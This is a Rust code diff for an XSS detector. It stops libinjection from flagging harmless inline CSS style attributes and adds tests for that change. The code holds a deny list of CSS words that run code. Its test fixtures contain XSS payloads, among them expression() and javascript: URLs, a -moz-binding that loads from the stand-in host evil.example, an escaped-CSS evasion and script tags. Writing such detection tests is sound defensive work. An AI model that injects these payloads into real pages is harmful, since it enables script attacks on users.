@@ -91,7 +91,7 @@ impl Xss {
             let raw = without_inert_markup(&v.raw);
             let norm = without_inert_markup(v.norm());
             let flagged =
-                libinjection(raw.as_bytes()) || (norm != raw && libinjection(norm.as_bytes()));
+                flagged_beyond_styles(&raw) || (norm != raw && flagged_beyond_styles(&norm));
             if flagged {
                 sink.hit(XSS_LIBINJECTION, v.norm(), 0);
             }
@@ -133,6 +133,93 @@ fn without_inert_markup(s: &str) -> std::borrow::Cow<'_, str> {
     std::borrow::Cow::Owned(out)
 }
 
+/// libinjection flags `s`, and still does with its inert `style` attributes taken out.
+/// libinjection flags every `style` attribute, whatever it holds; CSS runs script only
+/// through `expression(`, `url(`, `behavior`, `-moz-binding` or an import, and hides them
+/// only behind escapes and comments, so a declaration list without any of those (`color:#666;
+/// font-size:12px`, as every HTML e-mail has) is blanked out before asking again.
+fn flagged_beyond_styles(s: &str) -> bool {
+    libinjection(s.as_bytes()) && {
+        let bare = without_inert_styles(s);
+        matches!(bare, std::borrow::Cow::Borrowed(_)) || libinjection(bare.as_bytes())
+    }
+}
+
+/// `s` with each attribute `style="…"` or `style='…'` whose value is inert CSS (see
+/// [`flagged_beyond_styles`]) replaced with a space.
+fn without_inert_styles(s: &str) -> std::borrow::Cow<'_, str> {
+    let b = s.as_bytes();
+    let mut out: Option<String> = None;
+    let mut copied = 0;
+    let mut i = 0;
+    while let Some(at) = find_ascii_ci(&b[i..], b"style=").map(|p| p + i) {
+        i = at + 6;
+        // An attribute: after whitespace, with a quoted value.
+        let (Some(&before), Some(&quote)) = (at.checked_sub(1).and_then(|p| b.get(p)), b.get(i))
+        else {
+            continue;
+        };
+        if !before.is_ascii_whitespace() || !matches!(quote, b'"' | b'\'') {
+            continue;
+        }
+        let Some(len) = b[i + 1..].iter().take(512).position(|&c| c == quote) else {
+            continue;
+        };
+        let end = i + 1 + len + 1;
+        if !inert_css(&s[i + 1..end - 1]) {
+            continue;
+        }
+        let o = out.get_or_insert_with(|| String::with_capacity(s.len()));
+        o.push_str(&s[copied..at]);
+        o.push(' ');
+        copied = end;
+        i = end;
+    }
+    match out {
+        Some(mut o) => {
+            o.push_str(&s[copied..]);
+            std::borrow::Cow::Owned(o)
+        }
+        None => std::borrow::Cow::Borrowed(s),
+    }
+}
+
+/// A declaration list that cannot run script: names, numbers, colours and the punctuation of
+/// declarations only (no escape, comment, entity, markup, bracket or at-rule), none of the
+/// words that load or run code, and round brackets only after a colour function.
+fn inert_css(v: &str) -> bool {
+    const CODE: [&str; 8] = [
+        "behavio",
+        "binding",
+        "expression",
+        "import",
+        "javascript",
+        "script",
+        "url",
+        "vbscript",
+    ];
+    let lower = v.to_ascii_lowercase();
+    let declaration = |c: char| c.is_ascii_alphanumeric() || " \t#-_:;,.%!/'\"()".contains(c);
+    if !lower.chars().all(declaration) || lower.contains("/*") {
+        return false;
+    }
+    if CODE.iter().any(|w| lower.contains(w)) {
+        return false;
+    }
+    lower.match_indices('(').all(|(at, _)| {
+        let name = lower[..at].trim_end();
+        ["rgb", "rgba", "hsl", "hsla"]
+            .iter()
+            .any(|f| name.ends_with(f))
+    })
+}
+
+/// The first place `needle` (lower-case ASCII) is in `hay`, ignoring ASCII case.
+fn find_ascii_ci(hay: &[u8], needle: &[u8]) -> Option<usize> {
+    hay.windows(needle.len())
+        .position(|w| w.eq_ignore_ascii_case(needle))
+}
+
 /// Replaces each `<?…>` with a space (single pass).
 fn without_processing_instructions(s: &str) -> std::borrow::Cow<'_, str> {
     if !s.contains("<?") {
@@ -162,6 +249,31 @@ fn libinjection(s: &[u8]) -> bool {
 #[cfg(test)]
 mod tests {
     use crate::detect::testing::{flags, silent};
+
+    #[test]
+    fn inert_inline_styles_are_not_script() {
+        silent(
+            "xss",
+            &[
+                "<p style=\"color:#666;font-size:12px\">Questions? Reply to this email.</p>",
+                "<table width=\"600\" style='font-family:Arial,sans-serif'><tr><td>Sale</td></tr></table>",
+                "<span style=\"color: rgb(26, 115, 232)\">blue</span>",
+            ],
+        );
+        // Styles that load or run code, or hide what they hold, and script beside a style.
+        flags(
+            "xss",
+            &[
+                "<div style=\"width: expression(alert(1))\">",
+                "<div style=\"background:url(javascript:alert(1))\">",
+                "<div style=\"-moz-binding:url(//evil.example/x.xml#x)\">",
+                "<div style=\"behavior: url(x.htc)\">",
+                "<div style=\"color:re\\64\">x</div>",
+                "<p style=\"color:red\" onmouseover=\"alert(1)\">x</p>",
+                "<p style=\"color:red\"><script>alert(1)</script></p>",
+            ],
+        );
+    }
 
     #[test]
     fn text_without_lt_or_eq_is_never_flagged_by_libinjection() {
